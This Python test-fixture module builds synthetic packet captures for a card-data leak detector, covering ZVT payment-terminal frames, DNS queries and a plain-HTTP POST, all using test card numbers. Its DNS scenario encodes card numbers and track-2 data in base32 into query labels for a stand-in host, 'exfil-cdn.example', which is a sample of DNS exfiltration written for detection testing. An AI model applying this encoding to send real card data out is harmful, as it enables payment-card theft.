"""Scenario captures for card data on real store traffic (issue 12): the ZVT terminal protocol,
base32/base32hex in DNS labels, newer card ranges. Protocol scenarios (logins, DTLS, QUIC, proxies,
RDP) are in scenarios_detect_proto.py. Payloads are built byte by byte; card numbers are test
numbers, listed in CARD_NUMBERS for the leak test.
"""

from __future__ import annotations

import base64
import hashlib

from scapy.layers.dns import DNS, DNSQR
from scenario_lib import Clock, TcpConversation, udp

POS, POS2, ECR, TERMINAL = "10.20.1.15", "10.20.1.20", "10.20.1.30", "10.20.1.80"
LAN_SRV, PROXY, RESOLVER = "10.20.1.50", "10.20.0.9", "10.20.0.53"
ACQUIRER, INTERNET, VENDOR = "203.0.113.10", "185.220.101.5", "185.220.101.7"

BANCONTACT = "67030000012345677"  # 17 digits, Maestro/Bancontact 6703
VISA_TLV = "4917610000000000"
MC_SERIAL = "5555555555554444"
JCB_MANUAL = "3530111333300000"
AMEX_DNS = "378282246310005"
DISCOVER_DNS = "6011111111111117"
TROY, HUMO, RUPAY = "9792123456789018", "9860123456789015", "6080123456789015"
VISA_PROXY = "4012888888881881"
CARD_NUMBERS = [BANCONTACT, VISA_TLV, MC_SERIAL, JCB_MANUAL, AMEX_DNS, DISCOVER_DNS, TROY, HUMO, RUPAY, VISA_PROXY]


# -- ZVT ------------------------------------------------------------------------------------------
def _bcd(digits: str) -> bytes:
    return bytes.fromhex(digits + "f" * (len(digits) & 1))


def _llvar(data: bytes) -> bytes:
    return bytes(0xF0 | int(c) for c in f"{len(data):02d}") + data


def apdu(cls: int, instr: int, data: bytes = b"") -> bytes:
    n = len(data)
    head = bytes([cls, instr, n]) if n < 0xFF else bytes([cls, instr, 0xFF]) + n.to_bytes(2, "little")
    return head + data


def serial_frame(a: bytes) -> bytes:
    """ZVT serial transport: DLE STX, APDU with DLE doubled, DLE ETX, CRC (a fixed stand-in here)."""
    return b"\x10\x02" + a.replace(b"\x10", b"\x10\x10") + b"\x10\x03" + hashlib.sha256(a).digest()[:2]


def _status_info(pan_bmp: bytes, tlv: bytes = b"") -> bytes:
    bmps = (b"\x27\x00" + b"\x04" + bytes.fromhex("000000001250") + b"\x0b" + bytes.fromhex("000123")
            + b"\x0c" + bytes.fromhex("101530") + b"\x0d" + bytes.fromhex("1124") + b"\x0e" + bytes.fromhex("2812")
            + b"\x17" + bytes.fromhex("0001") + b"\x19\x40" + pan_bmp + b"\x29" + bytes.fromhex("52500123")
            + b"\x8a\x05")
    if tlv:
        bmps += b"\x06" + _ber_len(len(tlv)) + tlv
    return apdu(0x04, 0x0F, bmps)


def _ber_len(n: int) -> bytes:
    return bytes([n]) if n < 0x80 else b"\x81" + bytes([n])


def _tlv(tag: bytes, value: bytes) -> bytes:
    return tag + _ber_len(len(value)) + value


def zvt() -> list:
    """ECR ↔ terminal over ZVT: card in BMP 0x22 (odd length, F-padded), track 2 in the TLV container
    (tag 1F09 inside a constructed tag), a masked PAN (must stay silent), a serial-framed session with
    an extended length, and a manual-entry authorisation on a port that is not 20007."""
    clock = Clock()
    c = TcpConversation(ECR, TERMINAL, 50100, 20007, clock)
    c.send(0, apdu(0x06, 0x01, b"\x04" + bytes.fromhex("000000001250") + b"\x49\x09\x78"))
    c.send(1, apdu(0x80, 0x00))
    c.send(1, apdu(0x04, 0xFF, b"\x0a"))
    track2 = bytes.fromhex(VISA_TLV + "d2812201000000000f")
    tlv = _tlv(b"\xe1", _tlv(b"\x1f\x09", track2) + _tlv(b"\x1f\x1a", bytes.fromhex("6703eeeeeeeee567"))) + _tlv(
        b"\x41", b"\x05")
    c.send(1, _status_info(b"\x22" + _llvar(_bcd(BANCONTACT)), tlv))
    c.send(0, apdu(0x80, 0x00))
    c.send(1, apdu(0x06, 0xD1, b"\x00" + b"Karte: ************5677"))
    c.send(1, apdu(0x06, 0x0F))
    c.send(0, apdu(0x80, 0x00))
    c.close()
    s = TcpConversation(POS2, "10.20.1.81", 50101, 20007, clock)
    s.send(0, serial_frame(apdu(0x06, 0x01, b"\x04" + bytes.fromhex("000000001000"))))
    s.send(1, b"\x06")
    s.send(1, serial_frame(apdu(0x04, 0x0F, b"\x22" + _llvar(_bcd(MC_SERIAL)) + b"\x06\x81\xf0" + bytes(240)
                                + b"\x3c" + b"\xf0\xf0\xf8" + bytes(8))))
    s.send(0, b"\x06")
    s.close()
    m = TcpConversation(ECR, TERMINAL, 50102, 5577, clock)
    m.send(0, apdu(0x06, 0x01, b"\x04" + bytes.fromhex("000000000990") + b"\x22" + _llvar(_bcd(JCB_MANUAL))
                   + b"\x0e" + bytes.fromhex("2907")))
    m.send(1, apdu(0x80, 0x00))
    m.close()
    return c.packets + s.packets + m.packets


# -- DNS base32 / base32hex -------------------------------------------------------------------------
def dns_base32() -> list:
    """A card number in a base32 label, track 2 in a base32hex label, one ordinary name."""
    clock = Clock()
    track2 = f";{DISCOVER_DNS}=28121010000012345678?".encode()
    names = [
        base64.b32encode(AMEX_DNS.encode()).decode().rstrip("=").lower() + ".c.exfil-cdn.example",
        base64.b32hexencode(track2).decode().rstrip("=") + ".t.exfil-cdn.example",
        "time.store.example",
    ]
    pkts = []
    for i, name in enumerate(names):
        q = DNS(id=0x5200 + i, rd=1, qd=DNSQR(qname=name))
        r = DNS(id=0x5200 + i, qr=1, rd=1, ra=1, rcode=3, qd=DNSQR(qname=name))
        pkts.append(udp(POS, RESOLVER, 53200 + i, 53, bytes(q), clock))
        pkts.append(udp(RESOLVER, POS, 53, 53200 + i, bytes(r), clock))
    return pkts


# -- card ranges ----------------------------------------------------------------------------------
def card_ranges() -> list:
    """POS posts cards of newer ranges over plain HTTP: Bancontact 6703, Troy, Humo, RuPay."""
    body = (f'{{"cards":["{BANCONTACT}","{TROY}","{HUMO}","{RUPAY}"]}}').encode()
    c = TcpConversation(POS, LAN_SRV, 50110, 8080, Clock())
    c.send(0, b"POST /batch HTTP/1.1\r\nHost: backoffice.store42.example\r\nContent-Type: application/json\r\n"
           + f"Content-Length: {len(body)}\r\n\r\n".encode() + body)
    c.send(1, b"HTTP/1.1 204 No Content\r\n\r\n")
    c.close()
    return c.packets


SCENARIOS = {
    "detect_zvt": zvt,
    "detect_dns_base32": dns_base32,
    "detect_card_ranges": card_ranges,
}
